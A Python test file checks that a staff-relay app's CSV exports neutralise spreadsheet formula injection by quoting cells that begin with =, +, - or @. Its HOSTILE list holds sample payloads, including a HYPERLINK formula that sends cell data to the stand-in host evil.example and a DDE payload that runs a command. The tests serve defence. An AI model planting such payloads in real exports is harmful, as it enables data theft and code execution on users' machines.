"""Exports never hand Excel a formula: text that anyone could have typed is neutralised."""

from __future__ import annotations

import csv
import io

from flask import Flask
from sqlalchemy import select, update

from hub.csvsafe import safe_cell
from hub.models import Contact
from hub.models.relay import CalloutTarget
from hub.relay.answers import record_answers
from hub.relay.clock import ManualClock
from hub.relay.tally import export_csv
from hub.runtime import Runtime
from tests.api.support import bearer, create_approved, seed
from tests.relay.support import seed_staff, start

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]


def test_every_formula_start_gets_a_quote_and_plain_text_is_untouched() -> None:
    assert [safe_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [safe_cell(v) for v in ["山田 太郎", "a=b", "", 5, -5, None]] == ["山田 太郎", "a=b", "", 5, -5, None]


def test_the_relay_tally_csv_neutralises_names_and_free_text_answers(runtime: Runtime,
                                                                       clock: ManualClock) -> None:
    (person,) = seed_staff(runtime, 1)
    with runtime.session() as s:
        s.execute(update(Contact).where(Contact.id == person.contact_id).values(name=HOSTILE[0]))
    callout_id = start(runtime, departments="all")
    with runtime.session() as s:
        target = s.scalars(select(CalloutTarget).where(CalloutTarget.callout_id == callout_id)).one()
        record_answers(s, target, {"safety": "safe", "attend": "yes", "eta": "30", "note": "@SUM(A1)"},
                       via="test", actor="test")
    with runtime.session() as s:
        text = export_csv(s, callout_id)
    assert text is not None
    header, row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert row[header.index("氏名")] == "'" + HOSTILE[0]
    assert row[header.index("現在地・連絡事項")] == "'@SUM(A1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_the_deliveries_csv_neutralises_contact_names(app: Flask, runtime: Runtime) -> None:
    seed(app)
    with runtime.session() as s:
        s.execute(update(Contact).values(name=HOSTILE[1]))
    client = app.test_client()
    message_id = create_approved(client)["message_id"]
    export = client.get(f"/api/v1/messages/{message_id}/deliveries.csv", headers=bearer())
    rows = list(csv.DictReader(io.StringIO(export.data.decode("utf-8-sig"))))
    people = [r for r in rows if r["contact_id"]]
    assert people and {r["contact_name"] for r in people} == {"'" + HOSTILE[1]}
    sms = [r["address"] for r in people if r["channel"] == "sms"]
    assert sms and all(a.startswith("'+81") for a in sms)  # E.164 numbers are shown as text too
